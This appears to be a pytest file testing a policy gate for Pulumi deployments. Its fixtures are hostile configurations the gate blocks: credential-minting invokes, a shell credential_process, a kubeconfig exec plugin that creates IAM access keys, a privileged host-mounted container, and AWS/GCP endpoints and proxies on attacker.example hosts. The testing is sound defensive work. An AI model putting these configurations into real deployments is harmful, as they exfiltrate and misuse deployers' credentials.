"""Code and credentials at deployment time that no rule looked at, end to end through `agentid preview` (red11b 9-11).

9: a pulumi-docker Container on the deploy runner (privileged, host pid, `/` mounted) passed with an advisory;
10: provider configuration that makes the provider run a command (an aws profile's credential_process from the
change's config file, a kubeconfig exec plugin `sh -c ...`) passed; 11: invokes minting credentials with the
deployer's identity (eks get_cluster_auth, serviceaccount get_account_access_token) passed with "Violations: none".
"""

from __future__ import annotations

import datetime as dt
import json
from pathlib import Path
from xml.etree import ElementTree

import pytest

from .conftest import AGENT_GUARD, run_cli

pytestmark = pytest.mark.skipif(not (AGENT_GUARD / "PulumiPolicy.yaml").is_file(), reason="agent_guard pack not present")

BUCKET = 'aws.s3.BucketV2("drop", bucket="acme-drop", tags={"owner": "data-team"})\n'


def preview(directory: Path, program: str, stack_config: str = "", *extra: str) -> tuple[int, list[dict], dict]:
    """(exit code, the JSON report's violations, the SARIF log) of `agentid preview` over a one-file project."""
    directory.mkdir(exist_ok=True)
    (directory / "Pulumi.yaml").write_text("name: acme\nruntime: python\n")
    (directory / "Pulumi.dev.yaml").write_text("config:\n  aws:region: eu-west-1\n" + stack_config)
    (directory / "__main__.py").write_text(program)
    run = run_cli(directory, "--stack", "dev", "--policy-pack", str(AGENT_GUARD), "--json", "out.json",
                  "--sarif", "out.sarif", "--junit", "out.xml", *extra)
    assert run.code in (0, 1), run.stdout + run.stderr
    return run.code, json.loads((directory / "out.json").read_text())["violations"], \
        json.loads((directory / "out.sarif").read_text())


def mandatory(violations: list[dict]) -> list[tuple[str, str | None]]:
    return sorted((v["policy"], v["resourceName"]) for v in violations if v["mandatory"])


# --- 11: invokes that mint credentials ---

def test_an_invoke_minting_the_deployers_cluster_token_fails_in_the_report_and_sarif(tmp_path):
    program = ("import pulumi, pulumi_aws as aws\n" + "t = aws.eks.get_cluster_auth_output(name='prod')\n" + "b = " + BUCKET
               + "aws.s3.BucketObjectv2('o', bucket=b.id, key='t', content=t.token)\npulumi.export('eks', t.token)\n")
    code, violations, sarif = preview(tmp_path / "eks", program)
    assert (code, mandatory(violations)) == (1, [("AGID-GATE-001", None)])
    [found] = [v for v in violations if v["policy"] == "AGID-GATE-001"]
    assert "aws:eks/getClusterAuth:getClusterAuth" in found["message"] and found["urn"].endswith(
        "::pulumi:pulumi:Stack::acme-dev")
    [result] = [r for r in sarif["runs"][0]["results"] if r["ruleId"] == "AGID-GATE-001"]
    assert result["level"] == "error" and "getClusterAuth" in result["message"]["text"]
    assert "AGID-GATE-001" in [rule["id"] for rule in sarif["runs"][0]["tool"]["driver"]["rules"]]
    # and in JUnit: a failure of the gate's suite, on its stack case
    suite = ElementTree.parse(tmp_path / "eks" / "out.xml").getroot().find("testsuite[@name='agentid-preview']")
    [failure] = suite.findall("testcase[@classname='stack']/failure")
    assert failure.get("message").startswith("AGID-GATE-001: [escalation] the program invokes aws:eks/getClusterAuth")


def test_a_service_account_token_invoke_fails_and_a_lookup_invoke_passes(tmp_path):
    minted = ("import pulumi, pulumi_gcp as gcp\n"
              "t = gcp.serviceaccount.get_account_access_token_output(\n"
              "    target_service_account='terraform-admin@acme-prod.iam.gserviceaccount.com',\n"
              "    scopes=['cloud-platform'], lifetime='3600s')\n"
              "gcp.storage.Bucket('drop', name='acme-drop', location='EU', uniform_bucket_level_access=True,\n"
              "                   labels={'owner': 'data-team'})\npulumi.export('token', t.access_token)\n")
    code, violations, _ = preview(tmp_path / "gcp", minted)
    assert (code, mandatory(violations)) == (1, [("AGID-GATE-001", None)])
    # look-alike: a data source that reads who the caller is mints nothing
    code, violations, _ = preview(tmp_path / "lookup", "import pulumi, pulumi_aws as aws\n"
                                  "me = aws.get_caller_identity_output()\n" + BUCKET
                                  + "pulumi.export('account', me.account_id)\n")
    assert (code, mandatory(violations)) == (0, [])


def test_a_waiver_for_the_stack_accepts_the_invoke(tmp_path, today):
    directory = tmp_path / "waived"
    directory.mkdir()
    (directory / "waivers.yaml").write_text(
        "waivers:\n  - rule: AGID-GATE-001\n    resource: urn:pulumi:dev::acme::pulumi:pulumi:Stack::acme-dev\n"
        "    reason: the EKS provider of this stack needs the deployer's token\n    approver: security@example.com\n"
        f"    expires: {today + dt.timedelta(days=30)}\n")
    program = ("import pulumi, pulumi_aws as aws\nt = aws.eks.get_cluster_auth_output(name='prod')\n" + BUCKET)
    code, violations, _ = preview(directory, program)
    assert code == 0
    [found] = [v for v in violations if v["policy"] == "AGID-GATE-001"]
    assert not found["mandatory"]


# --- 10: provider configuration that runs a command ---

def test_a_default_aws_provider_reading_the_changes_config_file_fails(tmp_path):
    directory = tmp_path / "profile"
    directory.mkdir()
    (directory / "aws-config").write_text("[profile deploy]\ncredential_process = sh -c 'echo {}'\n")
    code, violations, _ = preview(directory, "import pulumi_aws as aws\n" + BUCKET,
                                  '  aws:profile: deploy\n  aws:sharedConfigFiles: ["./aws-config"]\n')
    assert (code, mandatory(violations)) == (1, [("AGID-PRV-002", "default")])
    [found] = [v for v in violations if v["policy"] == "AGID-PRV-002"]
    assert (found["file"], found["line"]) == ("Pulumi.dev.yaml", 4)
    # look-alike: the runner's own profile, from its own ~/.aws/config
    code, violations, _ = preview(tmp_path / "runner", "import pulumi_aws as aws\n" + BUCKET, "  aws:profile: deploy\n")
    assert (code, mandatory(violations)) == (0, [])


KUBECONFIG = """apiVersion: v1
kind: Config
clusters: [{{name: c, cluster: {{server: {server}}}}}]
contexts: [{{name: ctx, context: {{cluster: c, user: u, namespace: agents}}}}]
current-context: ctx
users:
- name: u
  user:
    exec: {{apiVersion: client.authentication.k8s.io/v1beta1, command: {command}, args: {args}}}
"""


EKS_SERVER = "https://ABCDEF0123456789.gr7.eu-west-1.eks.amazonaws.com"


@pytest.mark.parametrize(("command", "args", "server", "expected"), [
    ("sh", '["-c", "aws iam create-access-key --user-name ci-helper"]', EKS_SERVER, (1, [("AGID-PRV-002", "kc")])),
    ("aws", '["--region", "eu-west-1", "eks", "get-token", "--cluster-name", "prod"]', EKS_SERVER, (0, [])),
    # the vendor's plugin, but its EKS token goes to a server that is no EKS endpoint (AGID-PRV-003)
    ("aws", '["eks", "get-token", "--cluster-name", "prod"]', "https://k8s.example.internal",
     (1, [("AGID-PRV-003", "kc")])),
])
def test_a_kubeconfig_exec_plugin_fails_unless_it_is_the_vendors_token_plugin(tmp_path, command, args, server, expected):
    program = ("import pulumi, pulumi_kubernetes as k8s\n"
               f"p = k8s.Provider('kc', kubeconfig={KUBECONFIG.format(command=command, args=args, server=server)!r})\n"
               "k8s.core.v1.ConfigMap('cm', metadata={'name': 'cm', 'namespace': 'agents'}, data={'a': 'b'},\n"
               "                      opts=pulumi.ResourceOptions(provider=p))\n")
    code, violations, _ = preview(tmp_path / "kc", program)
    assert (code, mandatory(violations)) == expected


# --- 9: docker on the deploy runner ---

def test_a_docker_container_fails_and_a_registry_pull_passes(tmp_path):
    container = ("import pulumi\n"
                 "pulumi.CustomResource('docker:index/container:Container', 'c', {'name': 'c', 'image': 'alpine:3',\n"
                 "    'privileged': True, 'pidMode': 'host', 'volumes': [{'hostPath': '/', 'containerPath': '/host'}]})\n")
    code, violations, _ = preview(tmp_path / "container", container)
    assert (code, mandatory(violations)) == (1, [("AGID-GEN-001", "c")])
    pull = ("import pulumi\n"
            "pulumi.CustomResource('docker:index/remoteImage:RemoteImage', 'img', {'name': 'nginx:1.27'})\n")
    code, violations, _ = preview(tmp_path / "pull", pull)
    assert (code, mandatory(violations)) == (0, [])


def test_a_stack_of_only_a_credential_invoke_fails_instead_of_no_verdict(tmp_path):
    """prov20's gap: an invoke-only program (no resource at all) got exit 2 "nothing to judge", although the
    gate had a blocking finding that needs no resource: the verdict is FAIL, and what was not judged is said."""
    program = ("import pulumi, pulumi_aws as aws\nt = aws.eks.get_cluster_auth_output(name='prod')\n"
               "pulumi.export('eks', t.token)\n")
    directory = tmp_path / "only"
    code, violations, _ = preview(directory, program)
    assert (code, mandatory(violations)) == (1, [("AGID-GATE-001", None)])
    report = json.loads((directory / "out.json").read_text())
    assert (report["verdict"], report["error"]) == ("fail", None)
    assert report["nothingJudged"].startswith("the stack registered no resources to judge")
    # look-alike: the same empty stack with a harmless lookup invoke stays "no verdict" (exit 2)
    (directory / "__main__.py").write_text("import pulumi, pulumi_aws as aws\nme = aws.get_caller_identity_output()\n"
                                           "pulumi.export('account', me.account_id)\n")
    run = run_cli(directory, "--stack", "dev", "--policy-pack", str(AGENT_GUARD), "--json", "out.json")
    assert run.code == 2, run.stdout + run.stderr
    assert json.loads((directory / "out.json").read_text())["error"]["kind"] == "nothing-judged"


# --- provider endpoints (prov20's gap): the deployer's credentials sent to another host ---

def test_a_default_aws_provider_whose_sts_endpoint_is_another_host_fails_and_a_regional_one_passes(tmp_path):
    code, violations, _ = preview(tmp_path / "sts", "import pulumi_aws as aws\n" + BUCKET,
                                  '  aws:endpoints:\n    - sts: https://sts.attacker.example\n')
    assert (code, mandatory(violations)) == (1, [("AGID-PRV-003", "default")])
    [found] = [v for v in violations if v["policy"] == "AGID-PRV-003"]
    assert (found["file"], found["line"]) == ("Pulumi.dev.yaml", 3)
    assert "endpoints.sts 'https://sts.attacker.example' is on sts.attacker.example, not a host of AWS" in found["message"]
    code, violations, _ = preview(tmp_path / "regional", "import pulumi_aws as aws\n" + BUCKET,
                                  '  aws:endpoints:\n    - sts: https://sts.eu-west-1.amazonaws.com\n')
    assert (code, mandatory(violations)) == (0, [])


def test_a_proxy_and_a_ca_bundle_of_the_change_fail_from_stack_config_and_an_explicit_provider(tmp_path):
    """red17 r17-10: a CA bundle anywhere but the OS trust store, with the change's proxy, reads every AWS request."""
    code, violations, _ = preview(tmp_path / "config", "import pulumi_aws as aws\n" + BUCKET,
                                  "  aws:httpsProxy: http://proxy.evil.example:8080\n"
                                  "  aws:customCaBundle: /proc/self/cwd/evil-ca.pem\n")
    assert (code, mandatory(violations)) == (1, [("AGID-PRV-003", "default")])
    [found] = [v for v in violations if v["policy"] == "AGID-PRV-003"]
    assert "customCaBundle '/proc/self/cwd/evil-ca.pem' is not the operating system's trust store" in found["message"]
    assert "httpsProxy 'http://proxy.evil.example:8080'" in found["message"]
    program = ("import pulumi, pulumi_aws as aws\n"
               "p = aws.Provider('mitm', region='eu-west-1', custom_ca_bundle='/tmp/agent-ca.pem')\n"
               + BUCKET.replace('})', '}, opts=pulumi.ResourceOptions(provider=p))'))
    code, violations, _ = preview(tmp_path / "explicit", program)
    assert (code, mandatory(violations)) == (1, [("AGID-PRV-003", "mitm")])
    code, violations, _ = preview(tmp_path / "system", program.replace("/tmp/agent-ca.pem", "/etc/ssl/certs/ca-certificates.crt"))
    assert (code, mandatory(violations)) == (0, [])


def test_an_explicit_gcp_provider_with_a_foreign_universe_fails(tmp_path):
    program = ("import pulumi, pulumi_gcp as gcp\n"
               "p = gcp.Provider('elsewhere', project='acme-prod', universe_domain='apis.attacker.example')\n"
               "gcp.storage.Bucket('drop', name='acme-drop', location='EU', uniform_bucket_level_access=True,\n"
               "                   labels={'owner': 'data-team'}, opts=pulumi.ResourceOptions(provider=p))\n")
    # acme-prod is the organisation's project (AGID-GCP-035 judges where the provider deploys): only the universe fails
    code, violations, _ = preview(tmp_path / "universe", program, "", "--own-gcp-project", "acme-prod")
    assert (code, mandatory(violations)) == (1, [("AGID-PRV-003", "elsewhere")])
